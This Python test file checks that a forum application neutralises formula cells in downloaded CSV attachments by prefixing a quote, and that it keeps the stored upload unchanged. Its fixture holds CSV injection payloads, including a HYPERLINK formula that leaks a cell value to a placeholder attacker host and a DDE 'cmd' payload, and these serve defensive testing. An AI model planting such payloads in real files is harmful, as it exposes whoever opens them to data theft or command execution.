"""CSV injection (issue 16): formula cells of CSV attachments are neutralised on download
(a leading `'`, as OWASP advises), for intelligence and good-practice files alike; the
stored file stays as uploaded."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Callable
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from forum.accounts.models import User
from forum.core.config import Settings
from forum.discussions.models import Category, ThreadAttachment
from forum.intelligence import attachments
from forum.intelligence.models import IntelAttachment
from tests.conftest import Client, sign_in, start_good_practice
from tests.intelligence.test_attachments import make_item

HOSTILE = (
    'name,link,total\r\nACME,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",@SUM(1+1)\r\n'
    '+cmd|\' /C calc\'!A0,-2+3,"\tTAB"\r\n"\rCR",plain text,\'=already quoted\r\n'
    "Åsa Öberg,2024-05-01,=1+1\r\n"
).encode()
NEUTRALISED = [
    ["name", "link", "total"],
    ["ACME", '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'@SUM(1+1)"],
    ["'+cmd|' /C calc'!A0", "'-2+3", "'\tTAB"],
    ["'\rCR", "plain text", "'=already quoted"],
    ["Åsa Öberg", "2024-05-01", "'=1+1"],
]

Uploader = Callable[[bytes, str], tuple[str, str, str]]


def _cells(body: bytes, delimiter: str = ",") -> list[list[str]]:
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.fixture(params=["intelligence", "good-practice"])
def upload_csv(
    request: pytest.FixtureRequest,
    client: Client,
    db: Session,
    member: User,
    sectors: None,
    categories: dict[str, Category],
    settings: Settings,
) -> Uploader:
    """Uploads as the member; answers (download path, stored sha256, path on disk)."""
    sign_in(client, db, member)

    def upload(data: bytes, name: str) -> tuple[str, str, str]:
        if request.param == "intelligence":
            item = make_item(db, member)
            answer = client.post(
                f"/intel/{item.id}/attachments",
                data={"csrf_token": client.csrf_token()},
                files={"file": (name, data, "text/csv")},
            )
            assert answer.status_code == 303, answer.text
            db.expire_all()
            intel = db.scalars(
                select(IntelAttachment).where(IntelAttachment.item_id == item.id)
            ).one()
            return attachments.download_path(intel), intel.sha256, intel.storage_name
        thread = start_good_practice(db, member, categories["good-practices"])
        answer = client.post(
            f"/threads/{thread.id}/attachments",
            data={"csrf_token": client.csrf_token()},
            files={"file": (name, data, "text/csv")},
        )
        assert answer.status_code == 303, answer.text
        db.expire_all()
        gp = db.scalars(
            select(ThreadAttachment).where(ThreadAttachment.thread_id == thread.id)
        ).one()
        return gp.url, gp.sha256, gp.storage_name

    return upload


def _download(client: Client, path: str) -> Any:
    got = client.get(path)
    assert got.status_code == 200
    assert got.headers["content-type"] == "text/csv; charset=utf-8"
    assert got.headers["content-disposition"].startswith("attachment;")
    assert got.headers["x-content-type-options"] == "nosniff"
    return got


def test_formula_cells_of_a_csv_download_start_with_a_quote_and_the_stored_file_is_untouched(
    client: Client, upload_csv: Uploader, settings: Settings
) -> None:
    path, sha, storage_name = upload_csv(HOSTILE, "prices.csv")
    got = _download(client, path)
    assert _cells(got.content) == NEUTRALISED
    assert (settings.uploads_dir / storage_name).read_bytes() == HOSTILE
    assert sha == hashlib.sha256(HOSTILE).hexdigest()


def test_a_semicolon_csv_with_a_byte_order_mark_keeps_both_and_is_neutralised(
    client: Client, upload_csv: Uploader
) -> None:
    data = "\ufeffpays;montant;note\nFrance;-12,5;=1+1\nBelgique;3,0;@A1\n".encode()
    path, _, _ = upload_csv(data, "montants.csv")
    body = _download(client, path).content
    assert body.startswith("\ufeff".encode())
    assert _cells(body, ";") == [
        ["pays", "montant", "note"],
        ["France", "'-12,5", "'=1+1"],
        ["Belgique", "3,0", "'@A1"],
    ]


def test_a_malformed_or_large_csv_is_still_served_neutralised(
    client: Client, upload_csv: Uploader
) -> None:
    huge_cell = "x" * 300_000  # over the csv module's default field limit
    rows = "".join(f"{n},=A{n}*2,ok\n" for n in range(60_000))  # about a megabyte
    data = f'a,"{huge_cell}",b\n{rows}=unbalanced,"quote,\n=inside'.encode()
    path, _, _ = upload_csv(data, "big.csv")
    cells = _cells(_download(client, path).content)
    assert cells[0] == ["a", huge_cell, "b"]
    assert cells[1] == ["0", "'=A0*2", "ok"]
    assert len(cells) == 60_002
    assert cells[-1] == ["'=unbalanced", "quote,\n=inside"]


def test_other_text_files_are_served_exactly_as_stored(
    client: Client, upload_csv: Uploader
) -> None:
    data = b"=1+1 is a formula in notes, left alone\n"
    path, _, _ = upload_csv(data, "notes.txt")
    got = client.get(path)
    assert got.status_code == 200 and got.content == data
    assert got.headers["content-type"] == "text/plain; charset=utf-8"
